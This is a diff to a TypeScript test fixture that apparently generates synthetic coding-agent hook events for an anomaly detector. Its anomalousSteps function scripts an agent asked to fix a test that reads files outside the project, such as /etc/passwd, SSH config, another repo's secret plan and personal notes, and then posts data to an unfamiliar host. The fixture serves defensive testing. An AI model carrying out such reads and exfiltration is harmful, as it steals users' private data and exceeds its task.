@@ -46,9 +46,9 @@ export function benignSteps(seed: number): Payload[] {
 
 /** Reads a dozen files outside the project, then posts data to a host this project never talked to. */
 export function anomalousSteps(host = '10.9.8.7'): Payload[] {
-  const outside = ['/etc/passwd', '/etc/hosts', `${HOME}/.bash_history`, `${HOME}/.ssh/config`, `${HOME}/.ssh/known_hosts`,
+  const outside = ['/etc/passwd', '/etc/hosts', `${HOME}/.gitconfig`, `${HOME}/.ssh/config`, `${HOME}/.ssh/known_hosts`,
     `${HOME}/.config/htop/htoprc`, '/var/log/syslog', `${HOME}/other-repo/.git/config`, `${HOME}/other-repo/src/secret-plan.md`,
-    '/etc/resolv.conf', `${HOME}/.zsh_history`, `${HOME}/Documents/notes.txt`];
+    '/etc/resolv.conf', `${HOME}/.cache/pip/selfcheck.json`, `${HOME}/Documents/notes.txt`];
   return [
     { hook_event_name: 'UserPromptSubmit', prompt: 'fix the failing users test' },
     ...bash('git status'),
